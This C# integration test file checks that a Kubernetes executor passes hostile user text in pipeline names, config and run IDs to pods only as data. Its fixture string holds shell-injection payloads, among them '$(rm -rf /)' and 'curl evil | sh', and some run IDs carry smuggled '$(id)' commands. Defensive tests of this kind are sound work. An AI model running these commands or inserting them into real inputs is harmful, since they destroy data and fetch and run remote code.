using System.Text.Json;
using System.Text.Json.Nodes;
using Agent.Core.Execution;
using Agent.Core.Protocol;
using Agent.Core.Protocol.Messages;
using Agent.IntegrationTests.ControlPlane;
using Agent.IntegrationTests.Infrastructure;
using Agent.IntegrationTests.Kubernetes.Lifecycle;
using Agent.IntegrationTests.Lifecycle;
using Agent.Sandbox.ControlPlane.Api;

namespace Agent.IntegrationTests.Kubernetes.Abuse;

/// <summary>
/// Twin of <c>InjectionTests</c> on the Kubernetes executor: shell metacharacters, <c>$(VAR)</c>, newlines, quotes and
/// Argo template tags in the FQN, name and config reach the pod only as data. The command is a fixed exec array, the
/// config and FQN come from the run's Secret by <c>secretKeyRef</c> (which the kubelet never expands), the Job name and
/// labels are derived, and user text lands only in annotations and the Secret. With no Argo, a <c>{{…}}</c> tag is
/// plain text here and must arrive as written, not be refused.
/// </summary>
public sealed class KubernetesInjectionTests
{
    private const string Hostile = "$(rm -rf /) `id` ${HOME} $HOME $(pipelineType) $$; echo pwned && curl evil | sh\n'\"\\ {{workflow.name}} %{x} %s \u00e9";

    [Fact]
    public async Task PipelineRun_HostileNamesAndConfig_ReachThePodOnlyAsDataInAFixedExecCommand()
    {
        await using var rig = await AgentRig.StartKubernetesAsync(LinkSignals.NewAgentId("k8s-injection"));
        var fqn = "svc.\"db;" + Hostile + "\".pipe " + Hostile;
        var runId = Guid.NewGuid().ToString();
        var config = "source:\r\n  type: mysql\n  query: \"" + Hostile + "\"\n\tpassword: secret:x\n# " + Hostile + "\n";

        var answer = await SendRunAsync(rig, RequestPayloads.PipelineRun(fqn, name: "pipe " + Hostile, config: JsonSerializer.SerializeToElement(config), runId: runId));

        Assert.True(answer.Ok, $"{answer.Code} {answer.Reason}");
        var job = Assert.Single(rig.Kube.Jobs());
        Assert.Equal("om-run-" + runId.Replace("-", "", StringComparison.Ordinal), KubeObjects.Name(job));
        var main = Assert.Single(job["spec"]!["template"]!["spec"]!["containers"]!.AsArray())!;
        Assert.Equal(["python", "main.py"], KubeSpecs.Strings(main["command"]));
        Assert.Null(main["args"]);
        var received = KubeSpecs.ReceivedEnv(rig.Kube, await rig.Kube.PodOfAsync(KubeObjects.Name(job), rig.Cancellation));
        Assert.Equal(config, received["config"]);
        Assert.Equal(fqn, received["ingestionPipelineFQN"]);
        Assert.Equal(runId, received["pipelineRunId"]);
        Assert.Empty(KubernetesRules.LabelProblems(job["metadata"]!["labels"], "job").Concat(KubernetesRules.LabelProblems(job["spec"]!["template"]!["metadata"]!["labels"], "pod")));
        Assert.Equal(fqn, KubeObjects.Annotation(job, WorkflowLabels.PipelineFqnAnnotation));
        Assert.Equal(runId, KubeObjects.Annotation(job, WorkflowLabels.RunIdAnnotation));

        // In the Job, user text appears only in the annotations; the config and FQN are in the Secret alone.
        Assert.All(UserTextAt(job), path => Assert.StartsWith("$.metadata.annotations.", path, StringComparison.Ordinal));
        var secret = Assert.Single(rig.Kube.Secrets());
        Assert.Equal(config, KubeSpecs.SecretValue(secret, "config"));
        Assert.Equal(fqn, KubeSpecs.SecretValue(secret, "ingestionPipelineFQN"));
    }

    [Theory]
    [InlineData("run\n$(id)")]
    [InlineData("run\u0000`id`")]
    [InlineData("run-{{workflow.name}}")]
    public async Task PipelineRun_RunIdNotAUuid_Answered400AndCreatesNoJob(string runId)
    {
        await using var rig = await AgentRig.StartKubernetesAsync(LinkSignals.NewAgentId("k8s-injection-run-id"));

        var answer = await SendRunAsync(rig, RequestPayloads.PipelineRun(AgentRig.PipelineFqn, runId: runId));

        Assert.Equal(400, answer.Code);
        Assert.Contains("runId", answer.Reason, StringComparison.Ordinal);
        Assert.Empty(rig.Kube.Jobs());
        Assert.Empty(rig.Kube.Secrets());
    }

    [Theory]
    [InlineData("pipeline.fullyQualifiedName")]
    [InlineData("config")]
    public async Task PipelineRun_ArgoTemplateTagInUserText_ReachesThePodAsWritten(string field)
    {
        await using var rig = await AgentRig.StartKubernetesAsync(LinkSignals.NewAgentId("k8s-injection-tag"));
        const string Tag = "{{=sprig.trim(workflow.name)}}";
        var fqn = field == "pipeline.fullyQualifiedName" ? "svc." + Tag : AgentRig.PipelineFqn;
        var config = field == "config" ? "source:\n  query: " + Tag : RequestPayloads.DefaultConfig;

        var answer = await SendRunAsync(rig, RequestPayloads.PipelineRun(fqn, config: JsonSerializer.SerializeToElement(config)));

        Assert.True(answer.Ok, $"{answer.Code} {answer.Reason}");
        var job = Assert.Single(rig.Kube.Jobs(fqn));
        var received = KubeSpecs.ReceivedEnv(rig.Kube, await rig.Kube.PodOfAsync(KubeObjects.Name(job), rig.Cancellation));
        Assert.Equal(fqn, received["ingestionPipelineFQN"]);
        Assert.Equal(config, received["config"]);
    }

    private static async Task<ResultPayload> SendRunAsync(AgentRig rig, JsonElement payload) =>
        ReliableMessages.Result(await rig.ControlPlane.SendRequestAsync(rig.Agent.AgentId, MessageTypes.PipelineRun, payload, rig.Cancellation));

    private static IEnumerable<string> UserTextAt(JsonNode? node, string path = "$") => node switch
    {
        JsonObject obj => obj.SelectMany(pair => UserTextAt(pair.Value, $"{path}.{pair.Key}")),
        JsonArray array => array.SelectMany((item, index) => UserTextAt(item, $"{path}[{index}]")),
        JsonValue value when value.TryGetValue<string>(out var text) && text.Contains("pwned", StringComparison.Ordinal) => [path],
        _ => [],
    };
}
